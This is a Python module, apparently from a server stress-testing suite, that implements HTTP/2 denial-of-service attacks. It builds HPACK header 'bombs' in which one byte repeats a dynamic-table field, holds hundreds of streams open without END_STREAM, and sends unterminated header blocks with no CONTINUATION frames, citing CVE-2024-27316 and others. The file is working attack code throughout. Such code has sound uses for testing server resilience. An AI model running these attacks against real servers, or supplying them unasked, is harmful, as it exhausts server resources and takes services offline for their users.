"""The HTTP/2 bomb (CVE-2026-49975, CVE-2026-47774; before them CVE-2016-6581): one byte on the
wire repeats a field of the dynamic table, and costs the server a field of a request that never
ends.

Each connection has 200 requests without END_STREAM, of one of three kinds: more empty fields than
allowed, which still fit into the largest header list; the largest allowed number of empty fields;
and the largest allowed number of fields that fill the largest header list. Further connections
send header blocks that never end (CVE-2024-27316): a HEADERS frame without END_HEADERS, and no
CONTINUATION after it.
"""

import asyncio

from support import frames, grpc, hpack
from support.connection import STREAMS, Attack, Connection

BOMBS, UNFINISHED = 20, 200
# The number of fields, and the length of their value. A request has 6 other fields, and may have
# 100 fields and 16 KiB in all (`limits.header_list`). Each field counts 32 bytes and its text.
KINDS = ((481, 0), (94, 0), (94, 130))


async def attack(attack: Attack) -> None:
    await asyncio.gather(
        attack.keep(BOMBS * len(KINDS), send_bombs),
        attack.keep(UNFINISHED, begin_a_block),
    )


async def send_bombs(connection: Connection, number: int) -> None:
    block = bomb(connection.scheme, *KINDS[number % len(KINDS)])
    while not connection.is_closed:
        while len(connection.streams) < STREAMS and not connection.is_full:
            connection.open_stream(block)
            if connection.is_closed:
                return
        await connection.turn(0)


def bomb(scheme: bytes, repeats: int, value_length: int) -> bytes:
    fields = hpack.indexed_literal("c", "v" * value_length) + hpack.NEWEST * (repeats - 1)
    return hpack.request(grpc.CALL, scheme=scheme) + fields


async def begin_a_block(connection: Connection, number: int) -> None:
    block = bomb(connection.scheme, *KINDS[0])
    # Half of the connections announce a larger frame than they send.
    missing = number % 2 * 1024
    head = frames.head(len(block) + missing, frames.HEADERS, 0, 1)
    connection.write(head + block)
    while not connection.is_closed:
        await connection.turn(0)
